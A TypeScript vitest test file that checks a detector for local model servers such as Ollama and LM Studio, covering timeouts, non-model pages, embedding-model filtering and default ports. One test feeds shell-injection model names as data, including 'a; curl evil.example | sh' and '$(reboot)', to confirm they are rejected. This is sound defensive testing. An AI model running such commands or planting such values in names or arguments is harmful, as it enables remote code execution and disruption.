import { createServer, type RequestListener } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { readEnvironment } from "@/lib/config/schema";
import { detectLocalServers } from "./detect-local";
import { findPreset } from "./presets";

const opened: (() => void)[] = [];
afterEach(() => opened.splice(0).forEach((close) => close()));

/** Something that listens at a port of this machine. */
async function listenWith(answer: RequestListener): Promise<number> {
  const server = createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  opened.push(() => {
    server.closeAllConnections();
    server.close();
  });
  return (server.address() as AddressInfo).port;
}

const serverWith = (data: string[] | null) =>
  listenWith((_request, response) =>
    response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ object: "list", data: data && data.map((id) => ({ id })) })),
  );

async function nobodysPort(): Promise<number> {
  const port = await serverWith([]);
  opened.pop()?.();
  return port;
}

describe("detectLocalServers", () => {
  it("finds those that answer, and is not held up by one that does not", async () => {
    const [ollama, mute] = [await serverWith(["llama3.3:latest", "qwen3"]), await listenWith(() => undefined)];
    const startedAt = performance.now();
    const found = await detectLocalServers({ ollama, "lm-studio": mute });
    expect(found).toEqual([{ id: "ollama", label: "Ollama", baseUrl: `http://127.0.0.1:${ollama}/v1`, models: ["llama3.3:latest", "qwen3"] }]);
    expect(performance.now() - startedAt).toBeLessThan(3_000);
  });

  it("finds nobody where nobody is, and takes nothing else that listens there for a model server", async () => {
    const page = await listenWith((_request, response) => response.writeHead(200, { "content-type": "text/html" }).end("<h1>My router</h1>"));
    expect(await detectLocalServers({ ollama: await nobodysPort(), "lm-studio": page })).toEqual([]);
  });

  it("finds a server that has no model", async () => {
    // So an Ollama says it to which nothing was pulled.
    const found = await detectLocalServers({ ollama: await serverWith(null), "lm-studio": await serverWith([]) });
    expect(found.map(({ id, models }) => ({ id, models }))).toEqual([{ id: "ollama", models: [] }, { id: "lm-studio", models: [] }]);
  });

  it("leaves out models that answer nobody", async () => {
    const ollama = await serverWith(["nomic-embed-text:latest", "all-minilm", "bge-m3", "qwen/qwen3-4b"]);
    const lmStudio = await serverWith(["text-embedding-nomic-embed-text-v1.5"]);
    expect((await detectLocalServers({ ollama, "lm-studio": lmStudio })).map(({ models }) => models)).toEqual([["qwen/qwen3-4b"], []]);
  });

  it.each(["a; curl evil.example | sh", "$(reboot)", "`reboot`", "a b", "a\nreboot\n", "a\u001b[201~b", "'a", "a,b", "~root", "modèle"])(
    "leaves out a model with a name that a shell might take for more: %j",
    async (name) => {
      const ollama = await serverWith([name, "hf.co/someone/Some-Model_7B.v2-GGUF:Q4_K_M"]);
      const [found] = await detectLocalServers({ ollama, "lm-studio": await nobodysPort() });
      expect(found?.models).toEqual(["hf.co/someone/Some-Model_7B.v2-GGUF:Q4_K_M"]);
    },
  );

  it("looks where they listen unless they were told otherwise", () => {
    const { OLLAMA_PORT, LM_STUDIO_PORT } = readEnvironment({});
    expect(new URL(findPreset("ollama").baseUrl).port).toBe(String(OLLAMA_PORT));
    expect(new URL(findPreset("lm-studio").baseUrl).port).toBe(String(LM_STUDIO_PORT));
  });
});
